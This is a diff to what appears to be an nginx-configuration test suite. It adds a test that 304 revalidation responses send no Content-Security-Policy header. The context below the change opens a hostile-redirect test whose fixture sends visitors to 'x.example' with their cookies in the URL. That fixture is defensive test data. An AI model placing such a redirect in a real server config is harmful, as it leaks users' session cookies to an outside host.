@@ -347,6 +347,26 @@ describe('what the ops nginx files send of each kind of file', () => {
   })
 })
 
+describe('a revalidated answer', () => {
+  let nginx: Awaited<ReturnType<typeof serveDocumented>>
+  beforeAll(async () => {
+    nginx = await serveDocumented(PUBLIC)
+  })
+
+  // A browser stores a 304's headers over the kept answer's: a policy on the 304 replaces
+  // the page's, and the fence's sandbox would leave a regular's page without styles,
+  // pictures or scripts.
+  it.each(kindsOfFile())('%s (%s): a 304 sends no policy of its own', async (_kind, target) => {
+    const first = await get(nginx.port, target, BROWSER)
+    const again = await get(nginx.port, target, {
+      ...BROWSER,
+      'If-None-Match': first.headers.etag!,
+    })
+    expect(again.status).toBe(304)
+    expect(again.headers['content-security-policy']).toBeUndefined()
+  })
+})
+
 describe('hostile redirect records through the maps the hook writes', () => {
   const hostileRedirects = [
     { from: '/lekk', to: 'https://x.example/?c=$http_cookie', status: 302 },
